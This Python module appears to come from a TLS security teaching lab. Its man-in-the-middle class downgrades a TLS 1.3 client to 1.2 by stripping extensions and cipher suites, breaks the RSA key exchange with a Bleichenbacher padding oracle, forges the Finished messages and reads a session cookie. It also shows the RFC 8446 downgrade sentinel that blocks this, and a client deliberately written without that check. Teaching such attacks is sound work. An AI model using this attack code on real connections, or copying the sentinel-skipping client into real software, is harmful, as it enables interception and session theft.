"""Lab 6 — downgrade to TLS 1.2 by stripping supported_versions, and the sentinel that stops it.

A TLS 1.3 client offers 1.3 only inside the supported_versions extension (RFC 8446 §4.2.1). A man
in the middle who deletes it from the ClientHello makes a 1.3 server answer in TLS 1.2. Deleting
it alone is not enough: the Finished messages cover the ClientHello each side saw, and they saw
different ones. So a downgrade pays off only for an attacker who can break the *older* protocol
during the handshake — Logjam (Adrian et al., CCS 2015) and FREAK did so with export-grade keys;
here Mallory also strips every (EC)DHE suite and uses the Bleichenbacher oracle of lab 2 against
the server's TLS 1.2 RSA key exchange (as ROBOT did in real time, Böck et al. 2018) to learn the
pre-master secret, then rewrites both Finished messages.

RFC 8446 §4.1.3: a TLS 1.3 server that negotiates TLS 1.2 ends its ServerHello.random with
``44 4F 57 4E 47 52 44 01`` ("DOWNGRD" 01); a TLS 1.3 client that sees it aborts with
illegal_parameter (check ``downgrade_sentinel``) before it has used TLS 1.2 for anything. With
(EC)DHE the server's ServerKeyExchange signs both randoms, so rewriting the sentinel fails
``ske_signature``; with static RSA nothing signs them, and "it does not provide downgrade
protection when static RSA is used" — Mallory could rewrite it too (``rewrite_sentinel``).
"""
from __future__ import annotations

import dataclasses
from dataclasses import dataclass, field

from .. import suites, tls12
from ..client import ClientConnection
from ..constants import DOWNGRADE_TLS12, ExtensionType as ET, ProtocolVersion
from ..lesson.configs import lesson_client, lesson_server
from ..messages import (ClientHello, ClientKeyExchange, Finished, ServerHello, decode_handshake,
                        encode_handshake)
from ..prf import Transcript
from ..record import AEAD12, Record
from ..rng import lesson_rngs
from . import bleichenbacher, identities
from .inmemory import Run, run, send_data

RSA_SUITE = bleichenbacher.RSA_SUITE
# the client's PKCS#1 v1.5 padding, picked as lab 2's (bleichenbacher.LESSON_PADDING_SEED): the
# attack takes 2,361 queries
PADDING_SEED = "attack-lab/downgrade/padding-0"
REQUEST = b"GET /inbox HTTP/1.1\r\nHost: localhost\r\nCookie: session=5be0c41d27a9f836\r\n\r\n"


class SentinelIgnoringClient(bleichenbacher.SeededPaddingClient):
    """LESSON ONLY — a TLS 1.3 client that takes a TLS 1.2 ServerHello without looking at the
    last 8 bytes of its random (the check RFC 8446 §4.1.3 makes a MUST). Never a default. Its
    RSA ClientKeyExchange is padded from a seed, as lab 2's, so Mallory's queries repeat."""

    def _negotiated_version(self, sh: ServerHello) -> str:
        if (sh.extension(ET.supported_versions) is None and "1.2" in self.config.versions
                and sh.legacy_version == ProtocolVersion.TLS12):
            return "1.2"                       # the sentinel check, left out
        return super()._negotiated_version(sh)


def strip_tls13(hello: ClientHello, rsa_only: bool = True) -> ClientHello:
    """Mallory's edit: no supported_versions (so no TLS 1.3), no extended_master_secret (so both
    sides derive one master secret from the randoms), and only RSA key exchange suites."""
    gone = {ET.supported_versions, ET.extended_master_secret}
    offered = tuple(c for c in hello.cipher_suites
                    if not rsa_only or (c in suites.BY_CODE and suites.BY_CODE[c].kx == "RSA"))
    return dataclasses.replace(hello, cipher_suites=offered,
                               extensions=tuple(e for e in hello.extensions if e.type not in gone))


@dataclass
class Result:
    succeeded: bool                      # the client finished in TLS 1.2 and Mallory read its data
    version: str | None                  # what the client negotiated
    check: str | None                    # what stopped it
    cookie: bytes | None = None
    oracle_queries: int = 0
    session: Run | None = None
    notes: list = field(default_factory=list)


class Mallory:
    """The man in the middle, as a ``tamper`` function of the in-memory driver."""

    def __init__(self, rewrite_sentinel: bool = False, rsa_only: bool = True, on_query=None,
                 max_queries: int = bleichenbacher.MAX_QUERIES):
        self.rewrite_sentinel, self.rsa_only, self.on_query = rewrite_sentinel, rsa_only, on_query
        self.max_queries = max_queries
        self.client_view, self.server_view = Transcript(), Transcript()   # what each side hashed
        self.randoms = [b"", b""]
        self.master = None
        self.queries = 0
        self.notes: list[str] = []

    def __call__(self, sender: str, step, rec: bytes):
        if step.name == "ClientHello":
            stripped = strip_tls13(step.message, self.rsa_only)
            self.client_view.add(step.wire)
            raw = encode_handshake(stripped)
            self.server_view.add(raw)
            self.randoms[0] = stripped.random
            self.notes.append("ClientHello: supported_versions and EMS removed"
                              + (", and every (EC)DHE suite" if self.rsa_only else ""))
            return Record(22, Record.decode(rec).version, raw).encode()
        if step.name == "ServerHello" and self.rewrite_sentinel:
            sh = step.message
            if sh.random[-8:] == DOWNGRADE_TLS12:
                sh = dataclasses.replace(sh, random=sh.random[:24] + bytes(8))
                self.notes.append("ServerHello: the sentinel overwritten with zeros")
                raw = encode_handshake(sh)
                self.server_view.add(step.wire)
                self.client_view.add(raw)
                self.randoms[1] = sh.random
                return Record(22, 0x0303, raw).encode()
        if step.name == "ServerHello":
            self.randoms[1] = step.message.random
        if step.name == "Finished" and self.master is not None:
            return self._rewrite_finished(sender, step, rec)
        if step.name in ("ServerHello", "Certificate", "ServerKeyExchange", "ServerHelloDone",
                         "ClientKeyExchange") and not step.protected:
            self.client_view.add(step.wire)
            self.server_view.add(step.wire)
        if isinstance(step.message, ClientKeyExchange) and step.message.kx == "RSA":
            if self.rewrite_sentinel:    # this Mallory only shows the sentinel check passing
                self.notes.append("the client took the rewritten ServerHello: with static RSA "
                                  "nothing signed the random")
            else:
                self._break_pre_master(step.message.exchange)
        return rec

    def _break_pre_master(self, encrypted: bytes) -> None:
        """Lab 2's attack, now, while the client waits for the server's Finished."""
        identity = identities.victim_rsa()
        public = identity.certificate.public_key().public_numbers()
        oracle = bleichenbacher.Oracle(
            bleichenbacher.PaddingOracleServer,
            lesson_server(versions=("1.2",), suites=(RSA_SUITE,), identities=(identity,)),
            lesson_client(versions=("1.2",), suites=(RSA_SUITE,)),
            identity.certificate.public_key(), self.max_queries)
        oracle.on_query = self.on_query
        try:
            found = bleichenbacher.attack(oracle, int.from_bytes(encrypted, "big"), public.e,
                                          public.n)
        except bleichenbacher.AttackFailed as failed:    # no master secret: Finished catches her
            self.queries = failed.queries
            self.notes.append(f"Mallory {failed}")
            return
        self.queries = found.queries
        pre_master = bleichenbacher.pre_master_from_block(found.block)
        self.master = tls12.master_secret(pre_master, *self.randoms, RSA_SUITE)
        self.notes.append(f"pre-master secret found with {found.queries} oracle queries")

    def _rewrite_finished(self, sender: str, step, rec: bytes) -> bytes:
        """Each side's Finished made to match the *other* side's transcript (same keys: the
        master secret depends on the randoms only, which both sides share)."""
        kb = tls12.key_block(self.master, *self.randoms, RSA_SUITE)
        key, iv = ((kb.client_write_key, kb.client_write_iv) if sender == "client"
                   else (kb.server_write_key, kb.server_write_iv))
        mine, theirs = ((self.client_view, self.server_view) if sender == "client"
                        else (self.server_view, self.client_view))
        wire = AEAD12(RSA_SUITE, key, iv).open(Record.decode(rec))[1]
        mine.add(wire)
        fixed = encode_handshake(Finished(tls12.verify_data(
            self.master, sender, theirs.hash(RSA_SUITE.hash), RSA_SUITE)))
        theirs.add(fixed)
        self.notes.append(f"{sender} Finished rewritten for the other side's transcript")
        return AEAD12(RSA_SUITE, key, iv).seal(22, 0x0303, fixed).encode()


def downgrade(check_sentinel: bool, rewrite_sentinel: bool = False, rsa_only: bool = True,
              seed: str = "attack-lab/downgrade", on_query=None,
              padding_seed: str | None = PADDING_SEED,
              max_queries: int = bleichenbacher.MAX_QUERIES) -> Result:
    """A TLS 1.3 client (checking the sentinel or not) meets a 1.3 server that still speaks
    TLS 1.2 with RSA key exchange — through Mallory. ``rewrite_sentinel``: she also zeroes the
    sentinel (and, to keep it short, stops there); ``rsa_only`` False: she leaves the (EC)DHE
    suites in, so the server signs the randoms in its ServerKeyExchange. ``padding_seed``: the
    sentinel-ignoring client's RSA padding (``None``: fresh); ``max_queries``: Mallory's budget."""
    client_rng, server_rng = lesson_rngs(seed)
    config = lesson_client(rng=client_rng, suites=suites.SUITES + (RSA_SUITE,))
    client = (ClientConnection(config) if check_sentinel
              else SentinelIgnoringClient(config, padding_seed))
    server = bleichenbacher.PaddingOracleServer(lesson_server(
        rng=server_rng, identities=(identities.victim_rsa(),)))
    mallory = Mallory(rewrite_sentinel, rsa_only, on_query, max_queries)
    session = run(client, server, tamper=mallory)
    if not session.ok:
        return Result(False, client.version, session.check, None, mallory.queries, session,
                      mallory.notes)
    seen = b"".join(send_data(session, "client", REQUEST))
    kb = tls12.key_block(mallory.master, *mallory.randoms, RSA_SUITE)
    reader = AEAD12(RSA_SUITE, kb.client_write_key, kb.client_write_iv)
    reader.seq = 1
    request_record = session.records[-1][2]
    read = reader.open(Record.decode(request_record))[1]        # Mallory reads the request
    cookie = next((line.split(b"=", 1)[1] for line in read.split(b"\r\n")
                   if line.startswith(b"Cookie:")), None)
    return Result(seen == REQUEST and cookie is not None, client.version, None, cookie,
                  mallory.queries, session, mallory.notes)
